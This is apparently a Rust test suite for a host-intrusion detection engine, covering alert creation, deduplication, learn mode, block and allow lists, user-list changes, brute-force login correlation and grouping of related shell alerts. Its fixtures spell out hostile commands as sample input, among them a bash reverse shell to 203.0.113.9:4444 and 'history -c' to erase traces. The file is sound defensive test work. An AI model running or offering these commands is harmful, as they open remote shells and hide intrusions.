use yinglong_detect::Sample;
use yinglong_model::{
    EventData, config::List, event::Process, event::System, id::Epoch, rule::Rule,
};
use yinglong_proto::encode_record;
use yinglong_store::state_store::AlertFilter;
use yinglong_store_embedded::{Embedded, State};

use super::*;

fn engine(rules: &[Rule], whitelist: &List, blacklist: &List) -> Engine {
    let rules = yinglong_rules::compile(rules, &Default::default()).rules;
    Engine::new(rules, whitelist, blacklist, &Sample::default()).0
}

struct Bench {
    _dir: tempfile::TempDir,
    state: State,
    engine: Engine,
    relations: Relations,
    learn: bool,
    position: LogPosition,
}

impl Bench {
    fn new(learn: bool) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let (_, state) = Embedded::open(dir.path()).unwrap();
        let (rules, _) = yinglong_rules::load_default();
        let engine = engine(&rules, &List::default(), &List::default());
        let relations = Relations::new(dir.path(), &[], 0);
        Self {
            _dir: dir,
            state,
            engine,
            relations,
            learn,
            position: 0,
        }
    }

    fn with(rules: &[Rule], whitelist: List, blacklist: List) -> Self {
        let engine = engine(rules, &whitelist, &blacklist);
        Self {
            engine,
            ..Self::new(false)
        }
    }

    fn run(&mut self, entry: &Entry) -> Outcome {
        self.position += 1;
        let mut scratch = Scratch::default();
        let mut step = Step::new(&self.engine, &mut scratch, &self.state, self.learn)
            .relating(&mut self.relations);
        step.take(self.position, entry).unwrap();
        let outcome = step.finish();
        self.state.apply(&outcome.changes).unwrap();
        outcome
    }
}

fn entry(agent: u128, observations: &[Observation]) -> Entry {
    let at = Timestamp::from_secs(1_764_000_000);
    Entry {
        agent: AgentId::from_bits(agent),
        epoch: Epoch(1),
        first_seq: 1,
        ingested_at: at,
        ip: "192.0.2.7".into(),
        hostname: "web-7".into(),
        system: System::Linux,
        records: observations.iter().map(|o| encode_record(at, o)).collect(),
    }
}

fn execution(name: &str, command: &str) -> Observation {
    let process = Process {
        name: name.into(),
        command: command.into(),
        pid: 4,
        ..Process::default()
    };
    Observation::Event {
        occurred_at: Timestamp::from_secs(1_763_999_999),
        data: EventData::Process(Box::new(process)),
    }
}

fn users(names: &[&str]) -> Observation {
    let element = |name: &&str| {
        [
            ("name", *name),
            ("description", "x:1001:1001::/home/u:/bin/bash"),
        ]
        .into_iter()
        .map(|(key, value)| (key.to_owned(), value.to_owned()))
        .collect()
    };
    Observation::Inventory(Inventory {
        kind: InventoryType::Userlist,
        data: names.iter().map(element).collect(),
    })
}

fn sources(outcome: &Outcome) -> Vec<&str> {
    outcome
        .changes
        .alerts
        .iter()
        .map(|alert| alert.source.as_str())
        .collect()
}

#[test]
fn an_execution_becomes_an_event_a_count_and_an_alert_with_its_evidence() {
    let mut bench = Bench::new(false);
    let command = "bash -c exec 3<>/dev/tcp/127.0.0.1/9";
    let outcome = bench.run(&entry(1, &[execution("/usr/bin/bash", command)]));
    assert_eq!(outcome.events.len(), 1);
    let alert = outcome
        .raised
        .iter()
        .find(|alert| alert.info == command)
        .unwrap();
    assert_eq!(alert.status, Status::Open);
    assert_eq!(alert.hostname, "web-7");
    assert_eq!(alert.raw["data"]["command"], command);
    assert!(
        alert
            .matched
            .iter()
            .any(|m| m.field == "command" && m.value == command)
    );
    let counted = bench
        .state
        .statistic("process", "/usr/bin/bash")
        .unwrap()
        .unwrap();
    assert_eq!((counted.count, counted.exist_count), (1, 1));
    let stored = bench.state.stored_totals().unwrap();
    assert_eq!(stored, [(AgentId::from_bits(1), "process".to_owned(), 1)]);
}

#[test]
fn s15_only_the_first_report_in_the_fleet_is_a_first() {
    let mut bench = Bench::new(false);
    let first = |outcome: &Outcome| {
        outcome
            .raised
            .iter()
            .filter(|alert| alert.rule_id == "yl-process-first-seen")
            .count()
    };
    assert_eq!(
        first(&bench.run(&entry(1, &[execution("/opt/new", "new")]))),
        1
    );
    for agent in 1..4 {
        assert_eq!(
            first(&bench.run(&entry(agent, &[execution("/opt/new", "new")]))),
            0
        );
    }
}

#[test]
fn s16_learn_mode_raises_nothing_open() {
    let mut bench = Bench::new(true);
    let outcome = bench.run(&entry(1, &[execution("/usr/bin/bash", "bash /dev/tcp/x")]));
    assert!(outcome.raised.is_empty());
    assert!(!outcome.changes.alerts.is_empty());
    assert!(
        outcome
            .changes
            .alerts
            .iter()
            .all(|alert| alert.status == Status::Learned)
    );
}

#[test]
fn s18_a_hundred_repetitions_are_one_alert_and_an_ignored_one_stays_silent() {
    let mut bench = Bench::new(false);
    let same = vec![execution("/usr/bin/bash", "bash /dev/tcp/x"); 100];
    let outcome = bench.run(&entry(1, &same));
    let about_command: Vec<&Alert> = outcome
        .changes
        .alerts
        .iter()
        .filter(|alert| alert.info == "bash /dev/tcp/x")
        .collect();
    assert_eq!(about_command.len(), 1);
    assert_eq!(about_command[0].count, 100);

    let id = about_command[0].id.clone();
    bench
        .state
        .set_alert_status(
            std::slice::from_ref(&id),
            Status::Ignored,
            Timestamp::from_secs(1),
        )
        .unwrap();
    let outcome = bench.run(&entry(1, &same));
    assert!(
        outcome
            .changes
            .alerts
            .iter()
            .all(|alert| alert.info != "bash /dev/tcp/x")
    );
    assert_eq!(bench.state.alert(&id).unwrap().unwrap().count, 100);
}

#[test]
fn s18_repetitions_in_batches_of_their_own_are_counted_on_the_one_alert() {
    let mut bench = Bench::new(false);
    for _ in 0..100 {
        bench.run(&entry(1, &[execution("/usr/bin/bash", "bash /dev/tcp/x")]));
    }
    let filter = AlertFilter {
        text: Some("bash /dev/tcp/x".to_owned()),
        limit: 10,
        ..AlertFilter::default()
    };
    let (alerts, total) = bench.state.alerts(&filter).unwrap();
    assert_eq!((total, alerts[0].count), (1, 100));
}

#[test]
fn s18_two_rules_on_one_event_are_two_alerts_and_ignoring_one_leaves_the_other() {
    let about_shells = |id: &str| {
        let document = serde_json::json!({
            "id": id, "enabled": true, "and": true, "source": "process", "system": "all",
            "meta": {"name": id, "author": "t", "description": "d", "level": 1},
            "rules": {"name": {"type": "regex", "data": "bash$"}},
        });
        yinglong_rules::load(&document.to_string()).0.remove(0)
    };
    let rules = [about_shells("one"), about_shells("two")];
    let mut bench = Bench::with(&rules, List::default(), List::default());
    let shell = entry(1, &[execution("/usr/bin/bash", "bash")]);
    let outcome = bench.run(&shell);
    assert_eq!(sources(&outcome), ["one", "two"]);
    let one = outcome.changes.alerts[0].id.clone();
    bench
        .state
        .set_alert_status(&[one], Status::Ignored, Timestamp::from_secs(1))
        .unwrap();
    let outcome = bench.run(&shell);
    assert_eq!(sources(&outcome), ["two"]);
    assert_eq!(outcome.changes.alerts[0].count, 2);
    assert!(outcome.raised.is_empty(), "{:?}", outcome.raised);
}

#[test]
fn s10_an_item_in_both_lists_raises_exactly_one_alert_from_the_black_list() {
    let list = List {
        process: vec!["^/usr/bin/bash$".into()],
        ..List::default()
    };
    let rules = yinglong_rules::load_default().0;
    let mut bench = Bench::with(&rules, list.clone(), list);
    let outcome = bench.run(&entry(1, &[execution("/usr/bin/bash", "bash /dev/tcp/x")]));
    assert_eq!(sources(&outcome), ["blacklist"]);
}

#[test]
fn only_what_is_new_in_a_list_is_counted_and_judged() {
    let mut bench = Bench::new(false);
    let outcome = bench.run(&entry(1, &[users(&["root", "ann"])]));
    assert_eq!(outcome.raised.len(), 2);
    assert!(
        bench
            .run(&entry(1, &[users(&["root", "ann"])]))
            .raised
            .is_empty()
    );
    let outcome = bench.run(&entry(1, &[users(&["root", "ann", "eve"])]));
    assert_eq!(outcome.raised.len(), 1);
    assert!(outcome.raised[0].info.contains("eve"));
    let count = |name| {
        bench
            .state
            .statistic("userlist", name)
            .unwrap()
            .unwrap()
            .count
    };
    assert_eq!((count("root"), count("eve")), (1, 1));

    let agent = AgentId::from_bits(1);
    bench.run(&entry(1, &[users(&[])]));
    let list = bench
        .state
        .inventory(&agent, InventoryType::Userlist)
        .unwrap()
        .unwrap();
    assert!(list.data.is_empty());
}

#[test]
fn a_step_that_was_not_applied_can_be_taken_again_with_the_same_result() {
    let bench = Bench::new(false);
    let entry = entry(1, &[execution("/opt/new", "new"), users(&["ann"])]);
    let take = || {
        let mut relations = Relations::new(bench._dir.path(), &[], 0);
        let mut scratch = Scratch::default();
        let mut step =
            Step::new(&bench.engine, &mut scratch, &bench.state, false).relating(&mut relations);
        step.take(1, &entry).unwrap();
        step.finish()
    };
    let first = take();
    bench.state.discard();
    let again = take();
    assert_eq!(first.changes.alerts, again.changes.alerts);
    assert_eq!(first.events, again.events);
}

#[test]
fn an_unreadable_record_is_counted_and_harms_no_other() {
    let mut bench = Bench::new(false);
    let mut entry = entry(1, &[execution("/bin/a", "a"), execution("/bin/b", "b")]);
    entry.records.insert(1, b"\xff\xff\xff".to_vec());
    let outcome = bench.run(&entry);
    assert_eq!(outcome.events.len(), 2);
    assert_eq!(outcome.events[1].seq, 3);
    assert!(
        outcome
            .changes
            .stored
            .iter()
            .any(|(_, stream, n)| stream == UNREADABLE && *n == 1)
    );
    assert_eq!(outcome.changes.acked[0].2, 3);
}

fn failed_login(at: i64) -> Observation {
    let data = EventData::Loginlog(yinglong_model::event::Login {
        username: "root".into(),
        remote: "203.0.113.9".into(),
        ..yinglong_model::event::Login::default()
    });
    let occurred_at = Timestamp::from_secs(at);
    Observation::Event { occurred_at, data }
}

#[test]
fn r03_guessed_passwords_are_one_alert_and_single_failures_none() {
    let logins = yinglong_correlate::login_detectors(&yinglong_correlate::LoginOptions::default());
    let mut bench = Bench::new(false);
    let none = List::default();
    bench.engine = Engine::new(logins.rules, &none, &none, &Sample::default()).0;
    bench.relations = Relations::new(bench._dir.path(), &logins.correlations, 0);
    let failures: Vec<Observation> = (0..20)
        .map(|second| failed_login(1_763_999_900 + second))
        .collect();
    let raised = bench.run(&entry(1, &failures)).raised;
    assert_eq!(raised.len(), 1, "{raised:?}");
    let alert = &raised[0];
    assert!(alert.info.contains("203.0.113.9"), "{alert:?}");
    assert_eq!(alert.kind, "loginlog");
    assert!(!alert.story.is_empty());
    assert!(alert.raw["correlation"]["events"].as_u64().unwrap() >= 10);
}

#[test]
fn alerts_below_one_shell_are_one_story() {
    let mut bench = Bench::new(false);
    let below = |pid: u32, command: &str| {
        let data = EventData::Process(Box::new(Process {
            name: "/usr/bin/bash".into(),
            command: command.into(),
            pid,
            ppid: 700,
            parentname: "bash".into(),
            ancestors: vec!["/usr/bin/bash".into()],
            ..Process::default()
        }));
        let occurred_at = Timestamp::from_secs(1_763_999_999);
        Observation::Event { occurred_at, data }
    };
    let entry = entry(
        1,
        &[
            below(700, "bash"),
            below(701, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
            below(702, "history -c"),
        ],
    );
    let outcome = bench.run(&entry);
    let stories: HashSet<&str> = outcome
        .changes
        .alerts
        .iter()
        .filter(|alert| alert.source.contains("ommand"))
        .map(|alert| alert.story.as_str())
        .collect();
    assert!(outcome.changes.alerts.len() >= 2);
    assert_eq!(stories.len(), 1, "{:?}", outcome.changes.alerts);
}
